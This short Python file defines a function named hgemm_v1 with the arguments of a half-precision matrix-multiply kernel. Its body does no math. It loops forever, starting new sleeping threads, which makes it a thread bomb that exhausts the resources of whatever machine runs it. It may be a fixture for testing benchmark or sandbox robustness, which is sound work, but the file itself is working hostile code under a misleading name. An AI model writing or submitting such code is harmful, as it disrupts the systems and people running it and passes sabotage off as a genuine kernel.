"""Start threads."""

import threading
import time


def hgemm_v1(M, N, K, dtype="float16"):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
